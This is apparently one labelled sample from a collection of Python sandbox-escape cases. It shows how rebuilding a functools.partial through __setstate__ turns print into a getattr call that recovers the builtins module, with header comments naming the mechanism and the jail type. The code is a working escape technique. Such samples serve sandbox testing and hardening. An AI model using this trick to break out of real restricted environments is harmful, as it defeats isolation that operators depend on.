# aim: change the function of a partial by its state
# mechanism: partial.__setstate__
# language: builtins
# reason: pickling methods set what an object is made of
# jail: process
# plain: none (the state names the program's own function; the names are what is refused)

import functools

made = functools.partial(print)
made.__setstate__((getattr, (print, "__self__"), {}, {}))
loot(made())
